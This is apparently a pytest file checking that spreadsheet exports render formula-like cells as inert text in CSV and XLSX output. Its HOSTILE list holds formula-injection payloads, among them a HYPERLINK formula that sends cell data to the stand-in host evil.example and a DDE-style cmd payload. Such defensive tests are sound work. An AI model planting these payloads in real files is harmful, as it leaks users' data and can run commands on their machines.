"""Exported cells that a spreadsheet would run as formulas come out as inert text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from exports.formats import to_csv, to_xlsx
from exports.tables import Column, Table

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def table() -> Table:
    return Table("breakdown", "责任分解表", [Column("task", "任务"), Column("value", "目标值")],
                 [[text, -5.0] for text in HOSTILE] + [["市规划局负责", 40.0]])


def test_csv_cells_that_look_like_formulas_get_an_apostrophe() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(table()).decode("utf-8-sig"))))
    cells = [row[0] for row in rows[1:]]
    assert cells[:-1] == ["'" + text for text in HOSTILE]
    assert cells[-1] == "市规划局负责"
    assert [row[1] for row in rows[1:]] == ["-5.0"] * len(HOSTILE) + ["40.0"]  # numbers kept


@pytest.mark.parametrize("index", range(len(HOSTILE)))
def test_xlsx_cells_that_look_like_formulas_are_stored_as_text(index: int) -> None:
    sheet = load_workbook(io.BytesIO(to_xlsx(table()))).worksheets[0]
    cell = sheet.cell(row=2 + index, column=1)
    assert cell.data_type == "s" and cell.value == HOSTILE[index] and cell.quotePrefix
    assert sheet.cell(row=2 + index, column=2).value == -5.0


def test_no_formula_reaches_the_xlsx_file() -> None:
    import zipfile

    xml = zipfile.ZipFile(io.BytesIO(to_xlsx(table()))).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml
